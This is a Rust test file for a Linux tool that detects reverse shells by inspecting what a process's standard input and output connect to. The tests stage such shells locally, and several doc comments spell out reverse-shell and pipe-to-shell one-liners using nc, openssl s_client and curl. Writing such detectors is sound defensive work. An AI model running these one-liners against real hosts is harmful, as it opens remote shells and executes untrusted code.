//! What stands at standard input and output.

use std::fs::File;
use std::io::{PipeReader, PipeWriter, Read};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use std::process::{Command, Stdio};

use super::*;
use crate::linux::examine::victim::{Folder, Victim, skipped, subject};

/// What is seen of a process that has these as its standard input and output.
fn seen(input: impl Into<OwnedFd>, output: impl Into<OwnedFd>) -> Vec<(Sign, String)> {
    let mut command = Command::new("sleep");
    command
        .arg("1000")
        .stdin(Stdio::from(input.into()))
        .stdout(Stdio::from(output.into()));
    let victim = Victim(command.stderr(Stdio::null()).spawn().unwrap());
    match check(&subject(victim.0.id()), &mut Kept::default()) {
        Outcome::NothingFound => Vec::new(),
        Outcome::Found { traces, .. } => traces
            .into_iter()
            .map(|it| (it.sign, it.name.unwrap().lossy().into_owned()))
            .collect(),
        Outcome::NotTestable(why) => panic!("{why}"),
    }
}

#[expect(clippy::disallowed_methods, reason = "to a listener of this test")]
fn check_tcp(address: &str) {
    let Ok(listener) = TcpListener::bind((address, 0)) else {
        return skipped(&format!("no {address} here"));
    };
    let there = listener.local_addr().unwrap();
    let socket = TcpStream::connect(there).unwrap();
    let expected = format!("tcp {there}");
    assert_eq!(
        seen(socket.try_clone().unwrap(), socket),
        [
            (Sign::InputSocket, expected.clone()),
            (Sign::OutputSocket, expected),
        ]
    );
}

#[test]
fn a_connection() {
    check_tcp("127.0.0.1");
    check_tcp("::1");
}

#[test]
fn a_socket_without_connection() {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let null = std::fs::File::open("/dev/null").unwrap();
    assert_eq!(seen(socket, null), [(Sign::InputSocket, "udp".to_owned())]);
}

#[test]
fn what_is_within_this_computer() {
    let (one, other) = UnixStream::pair().unwrap();
    assert_eq!(seen(one, other), []);
    let null = || std::fs::File::open("/dev/null").unwrap();
    assert_eq!(seen(null(), null()), []);
}

/// Who has a connection to a listener of this test, and reads and writes there.
struct Relay {
    victim: Victim,
    _connection: Option<TcpStream>,
}

impl Relay {
    fn start(input: Stdio, output: Stdio) -> Option<Self> {
        let code = "import socket, sys, time
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
time.sleep(1000)";
        Self::of(code, input, output, true)
    }

    /// Waits for a call, and has no connection.
    fn listening(input: Stdio, output: Stdio) -> Option<Self> {
        let code = "import socket, sys, time
s = socket.create_server(('127.0.0.1', 0))
socket.create_connection(('127.0.0.1', int(sys.argv[1]))).close()
time.sleep(1000)";
        Self::of(code, input, output, false)
    }

    fn of(code: &str, input: Stdio, output: Stdio, stays: bool) -> Option<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let mut command = Command::new("python3");
        command.args(["-c", code, &port.to_string()]);
        let command = command.stdin(input).stdout(output).stderr(Stdio::null());
        let Ok(child) = command.spawn() else {
            skipped("no python3 here");
            return None;
        };
        let victim = Victim(child);
        let (mut connection, _) = listener.accept().unwrap();
        if !stays {
            // It has closed its end, and so has none any more.
            assert_eq!(connection.read(&mut [0]).unwrap(), 0);
        }
        Some(Self {
            victim,
            _connection: stays.then_some(connection),
        })
    }

    fn pid(&self) -> Option<u32> {
        Some(self.victim.0.id())
    }
}

fn start(line: &[&str], input: impl Into<Stdio>, output: impl Into<Stdio>) -> Victim {
    let (program, arguments) = line.split_first().unwrap();
    let mut command = Command::new(program);
    let command = command.args(arguments).stdin(input).stdout(output);
    Victim(command.stderr(Stdio::null()).spawn().unwrap())
}

/// The processes at the other end of a shell.
fn far_ends(shell: &Victim) -> Vec<Option<u32>> {
    match check(&subject(shell.0.id()), &mut Kept::default()) {
        Outcome::NothingFound => Vec::new(),
        Outcome::Found { traces, .. } => {
            assert!(traces.iter().all(|it| it.sign == Sign::ShellOverPipe));
            let names = traces.iter().map(|it| it.name.as_ref().unwrap());
            assert!(
                names
                    .into_iter()
                    .all(|it| it.lossy().starts_with("tcp 127.0.0.1:"))
            );
            traces.iter().map(|it| it.pid).collect()
        }
        Outcome::NotTestable(why) => panic!("{why}"),
    }
}

fn pipes() -> [(PipeReader, PipeWriter); 2] {
    [std::io::pipe().unwrap(), std::io::pipe().unwrap()]
}

#[test]
fn a_shell_of_who_has_a_connection() {
    for line in [
        &["sh", "-i"][..],
        &["bash"],
        &["python3", "-"],
        &["sh", "-s"],
    ] {
        let [(in_reads, in_writes), (out_reads, out_writes)] = pipes();
        let shell = start(line, in_reads, out_writes);
        let Some(relay) = Relay::start(out_reads.into(), in_writes.into()) else {
            return;
        };
        assert_eq!(far_ends(&shell), [relay.pid()], "{line:?}");
    }
}

/// A FIFO in a folder of its own.
fn fifo() -> (Folder, String) {
    let folder = Folder::below("/dev/shm", "whocalls-fifo");
    let path = format!("{}/f", folder.path());
    let made = Command::new("mkfifo").arg(&path).status().unwrap();
    assert!(made.success());
    (folder, path)
}

/// `cat f | sh -i | nc HOST PORT >f`
#[test]
fn a_shell_between_a_fifo_and_a_pipe() {
    let (_folder, path) = fifo();
    let [(in_reads, in_writes), (out_reads, out_writes)] = pipes();
    let cat = start(&["cat", &path], Stdio::null(), in_writes);
    let shell = start(&["sh", "-i"], in_reads, out_writes);
    // Waits until cat has opened its end.
    let into = File::options().write(true).open(&path).unwrap();
    let Some(relay) = Relay::start(out_reads.into(), into.into()) else {
        return;
    };
    assert_eq!(far_ends(&shell), [relay.pid()]);
    // The twin: what cat hands on is of nobody else.
    drop((shell, relay, cat));
    let [(in_reads, in_writes), (out_reads, out_writes)] = pipes();
    let (silence, silent) = std::io::pipe().unwrap();
    let _silent = start(&["sleep", "1000"], Stdio::null(), silent);
    let _cat = start(&["cat"], silence, in_writes);
    let shell = start(&["sh", "-i"], in_reads, out_writes);
    let _relay = Relay::start(out_reads.into(), Stdio::null());
    assert_eq!(far_ends(&shell), []);
}

/// `sh -i <f | openssl s_client >f`
#[test]
fn a_shell_that_reads_a_fifo() {
    let (_folder, path) = fifo();
    let (out_reads, out_writes) = std::io::pipe().unwrap();
    // Opened for both, nobody waits for the other.
    let both = File::options().read(true).write(true).open(&path).unwrap();
    let from = File::open(&path).unwrap();
    let into = File::options().write(true).open(&path).unwrap();
    let shell = start(&["sh", "-i"], from, out_writes);
    drop(both);
    let Some(relay) = Relay::start(out_reads.into(), into.into()) else {
        return;
    };
    assert_eq!(far_ends(&shell), [relay.pid()]);
}

#[test]
fn a_shell_of_two_with_a_connection_each() {
    let [(in_reads, in_writes), (out_reads, out_writes)] = pipes();
    let (tee_reads, tee_writes) = std::io::pipe().unwrap();
    let shell = start(&["sh", "-i"], in_reads, out_writes);
    let _tee = start(&["tee"], out_reads, tee_writes);
    let from = Relay::start(Stdio::null(), in_writes.into());
    let to = Relay::start(tee_reads.into(), Stdio::null());
    let (Some(from), Some(to)) = (from, to) else {
        return;
    };
    assert_eq!(far_ends(&shell), [from.pid(), to.pid()]);
}

/// As socat has it, unless it was told otherwise.
#[test]
fn a_shell_on_a_pair_of_sockets() {
    let (one, other) = UnixStream::pair().unwrap();
    let again = |socket: &UnixStream| Stdio::from(OwnedFd::from(socket.try_clone().unwrap()));
    let shell = start(&["sh", "-i"], again(&one), again(&one));
    let Some(relay) = Relay::start(again(&other), again(&other)) else {
        return;
    };
    drop((one, other));
    assert_eq!(far_ends(&shell), [relay.pid()]);
}

/// `curl URL | sh`, also into a file or a pager.
#[test]
fn a_shell_that_is_told_and_does_not_answer() {
    let (reads, writes) = std::io::pipe().unwrap();
    let (out_reads, out_writes) = std::io::pipe().unwrap();
    let to_nobody = start(&["sh"], reads.try_clone().unwrap(), Stdio::null());
    let to_a_pager = start(&["sh"], reads, out_writes);
    let _pager = start(&["cat"], out_reads, Stdio::null());
    let _curl = Relay::start(Stdio::null(), writes.into());
    assert_eq!(far_ends(&to_nobody), []);
    assert_eq!(far_ends(&to_a_pager), []);
}

/// As runners of build servers start theirs: what is to be done lies in a file, or is an argument.
#[test]
fn a_shell_that_was_told_before() {
    let folder = Folder::below("/tmp", "whocalls-runner");
    let script = folder.file("x.sh", b"sleep 1000\n");
    for line in [
        &["sh", "-e", &script][..],
        &["sh", "-c", "sleep 1000; :"],
        &["cat"],
    ] {
        let [(in_reads, in_writes), (out_reads, out_writes)] = pipes();
        let shell = start(line, in_reads, out_writes);
        let _runner = Relay::start(out_reads.into(), in_writes.into());
        assert_eq!(far_ends(&shell), [], "{line:?}");
    }
}

/// A terminal, a container runtime and cron have pipes, and no connection.
#[test]
fn a_shell_of_who_has_no_connection() {
    let [(in_reads, in_writes), (out_reads, out_writes)] = pipes();
    let shell = start(&["sh"], in_reads, out_writes);
    let _conmon = Relay::listening(out_reads.into(), in_writes.into());
    assert_eq!(far_ends(&shell), []);
}
